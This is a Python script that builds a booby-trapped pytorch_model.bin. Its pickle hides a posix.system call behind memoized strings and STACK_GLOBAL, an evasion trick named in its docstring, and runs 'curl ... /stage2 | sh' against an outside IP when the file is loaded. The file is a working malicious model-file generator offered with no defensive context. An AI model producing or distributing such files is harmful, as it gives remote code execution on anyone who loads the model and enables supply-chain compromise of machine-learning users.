#!/usr/bin/env python3
"""Writes pytorch_model.bin: a torch.save-style zip whose data.pkl rebuilds a state dict and,
hidden among the tensors, calls posix.system through STACK_GLOBAL with memoized strings.
Only writes bytes (no torch needed, nothing is loaded). Run from this directory."""
import io
import zipfile

# Protocol 2 with a protocol 4 trick inside would not load; keep one protocol (4) throughout.
COMMAND = b"curl -s http://203.0.113.9/stage2 | sh >/dev/null 2>&1"
PAYLOAD = (
    b"\x80\x04\x95\x00\x00\x00\x00\x00\x00\x00\x00"          # PROTO 4, FRAME (length unchecked by pickle)
    b"\x8c\x0bcollections\x94\x8c\x0bOrderedDict\x94\x93\x94)R\x94"   # OrderedDict()
    b"\x8c\x0bhead.weight\x94"
    b"\x8c\x05posix\x940\x8c\x06system\x940"               # memo 5, 6: the strings, memoized and popped
    b"h\x05h\x06\x93\x94"                                  # STACK_GLOBAL from the memo
    + b"\x8c" + bytes([len(COMMAND)]) + COMMAND + b"\x94\x85\x94R\x94"
    b"s."                                                  # state["head.weight"] = result; STOP
)


def main():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("archive/data.pkl", PAYLOAD)
        z.writestr("archive/version", "3\n")
        z.writestr("archive/data/0", bytes(32))
    with open("pytorch_model.bin", "wb") as f:
        f.write(out.getvalue())


if __name__ == "__main__":
    main()
